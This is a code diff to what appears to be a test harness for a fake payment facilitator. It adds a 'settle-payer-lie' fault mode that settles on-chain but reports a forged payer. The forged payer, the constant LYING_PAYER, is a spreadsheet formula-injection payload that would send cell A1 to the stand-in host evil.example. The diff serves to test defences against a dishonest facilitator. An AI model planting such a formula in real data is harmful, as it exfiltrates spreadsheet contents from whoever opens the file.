@@ -35,6 +35,9 @@ real work first where a real facilitator could fail after it:
     settle-400-after   /settle really settles on-chain, then answers HTTP 400 with a
                        body that names the transaction
     settle-lie         /settle claims success with a made-up transaction, settles nothing
+    settle-payer-lie   /settle really settles on-chain, then names someone else as the
+                       payer (a spreadsheet formula, ``LYING_PAYER``): the SDK always
+                       reports the signer, so only the answer is altered
     settle-500         /settle answers HTTP 500 at once: nothing verified, nothing broadcast
     settle-gate        /settle writes <gate>/arrived-<n>, waits for <gate>/go-<n> to exist,
                        then really settles and writes <gate>/done-<n> (``--gate DIR``): a
@@ -57,7 +60,7 @@ from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
-__all__ = ["FAULTS", "RECEIPT_POLL_SECONDS", "main"]
+__all__ = ["FAULTS", "LYING_PAYER", "RECEIPT_POLL_SECONDS", "main"]
 
 FAULTS = [
     "settle-drop",
@@ -66,12 +69,15 @@ FAULTS = [
     "settle-500-after",
     "settle-400-after",
     "settle-lie",
+    "settle-payer-lie",
     "settle-500",
     "settle-gate",
 ]
 
 #: Seconds between receipt polls while a settle waits for its transaction.
 RECEIPT_POLL_SECONDS = 0.005
+#: The payer ``settle-payer-lie`` reports: what a spreadsheet would run as a formula.
+LYING_PAYER = '=HYPERLINK("https://evil.example/?leak="&A1,"0xBuyer")'
 
 
 def _build(chains: list[tuple[str, str]], key: str) -> dict[str, Any]:
@@ -209,6 +215,10 @@ def _handler(
                 result = facilitator.settle(payload, requirements)
                 if fault == "settle-500-after":
                     self._answer(500, {"error": "internal error"})
+                    return
+                if fault == "settle-payer-lie":
+                    answer = result.model_dump(by_alias=True, exclude_none=True)
+                    self._answer(200, {**answer, "payer": LYING_PAYER})
                     return
                 if fault == "settle-400-after":
                     answer = result.model_dump(by_alias=True, exclude_none=True)
